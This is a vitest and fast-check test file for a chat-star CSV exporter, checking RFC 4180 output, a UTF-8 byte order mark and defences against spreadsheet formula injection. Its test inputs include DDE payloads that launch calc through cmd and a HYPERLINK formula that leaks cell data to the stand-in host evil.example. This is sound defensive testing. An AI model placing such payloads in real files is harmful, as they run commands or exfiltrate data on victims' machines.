import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvHead, csvLine } from './export-csv';
import { plainStar } from './testing/export-rows';

/** RFC 4180, to the letter: quotes only around a whole cell, doubled inside; CRLF at the end of each record. */
function parseRfc4180(text: string): string[][] {
  const records: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const record: string[] = [];
    for (;;) {
      const cell = /^"((?:[^"]|"")*)"/.exec(text.slice(at)) ?? /^()[^",\r\n]*/.exec(text.slice(at));
      if (!cell) throw new Error(`no cell at ${at}`);
      record.push(cell[0].startsWith('"') ? (cell[1] ?? '').replaceAll('""', '"') : cell[0]);
      at += cell[0].length;
      if (text[at] !== ',') break;
      at += 1;
    }
    if (!text.startsWith('\r\n', at)) throw new Error(`no CRLF at ${at}`);
    at += 2;
    records.push(record);
  }
  return records;
}

/** As spreadsheets open a file: what follows a closing quote belongs to the cell, any line break ends a record. */
function cellsInSpreadsheet(text: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isQuoted = false;
  let isAtStart = true;
  for (let at = 0; at < text.length; at++) {
    const sign = text[at] ?? '';
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (text[at + 1] === '"') {
        cell += sign;
        at += 1;
      } else isQuoted = false;
    } else if (sign === separator || sign === '\n' || sign === '\r') {
      cells.push(cell);
      [cell, isAtStart] = ['', true];
      continue;
    } else if (sign === '"' && isAtStart) isQuoted = true;
    else cell += sign;
    isAtStart = false;
  }
  return [...cells, cell];
}

const nasty = fc.string({
  unit: fc.constantFrom(...'=+-@＝＋－＠\t\r\n"\',; |!A1', 'é', '東', '🎉', '\u00A0'),
  maxLength: 24,
});
const columns = ['type', 'sender', 'chat', 'text', 'file', 'sentAt', 'starredAt', 'link'];

test('RFC 4180: a line of names, then a record for each star, every cell as it was', () => {
  const text = 'He said "no",\r\nthen left; twice.';
  const records = parseRfc4180(csvHead().slice(1) + csvLine({ ...plainStar, text, file: 'a,b.pdf' }));
  expect(records).toEqual([
    columns,
    [
      'note',
      'Alice Johnson',
      'Launch',
      text,
      'a,b.pdf',
      '2026-05-12T10:00:00.000Z',
      '2026-05-12T11:59:00.000Z',
      plainStar.link,
    ],
  ]);
});

test('it begins with a byte order mark, so that Excel reads UTF-8', () => {
  expect([...new TextEncoder().encode(csvHead())].slice(0, 3)).toEqual([0xef, 0xbb, 0xbf]);
  expect(csvHead().indexOf('\uFEFF', 1)).toBe(-1);
});

test('any text: one record of eight cells, each as it was but for the apostrophes', () => {
  fc.assert(
    fc.property(nasty, nasty, fc.string({ unit: 'binary' }), (sender, chat, text) => {
      const records = parseRfc4180(csvLine({ ...plainStar, sender, chat, text }));
      expect(records).toHaveLength(1);
      const [, ...cells] = records[0] ?? [];
      expect(cells).toHaveLength(7);
      const bare = (cell = '') => cell.replaceAll("'", '');
      expect(cells.slice(0, 3).map(bare)).toEqual([sender, chat, text].map(bare));
    }),
    { numRuns: 500 },
  );
});

describe('no cell is a formula', () => {
  const isFormula = (cell: string) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell) || /^[\t\r\n]/.test(cell);

  test.each([
    '=1+1',
    '+1',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '"=1+1"',
    '＝1+1',
    '=HYPERLINK("https://evil.example/?"&A1,"report.pdf")',
    "=cmd|'/C calc'!A0",
  ])('%j', (payload) => {
    const [cells = []] = parseRfc4180(csvLine({ ...plainStar, type: payload, sender: payload, text: payload }));
    for (const cell of cells) expect(isFormula(cell)).toBe(false);
    expect(cells[3]?.replaceAll("'", '')).toBe(payload.replaceAll("'", ''));
  });

  test('not in a spreadsheet of a country that separates by semicolons or tabs, either', () => {
    expect(cellsInSpreadsheet(csvLine({ ...plainStar, text: 'x;=1+1;y' }), ';')).toContain("'=1+1");
    expect(cellsInSpreadsheet(csvLine({ ...plainStar, text: 'x\r\n=1+1\r\ny' }), ';')).toContain("'=1+1");
    fc.assert(
      fc.property(nasty, nasty, nasty, fc.constantFrom(',', ';', '\t'), (sender, chat, text, separator) => {
        const cells = cellsInSpreadsheet(csvLine({ ...plainStar, sender, chat, text, file: text }), separator);
        for (const cell of cells) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/);
      }),
      { numRuns: 3_000 },
    );
  });

  test('what is no formula stays as it is', () => {
    const text = "It's 5 - 3 = 2; a@b.example, +1 from me – see A+B";
    expect(csvLine({ ...plainStar, text })).toContain(`"${text}"`);
  });
});
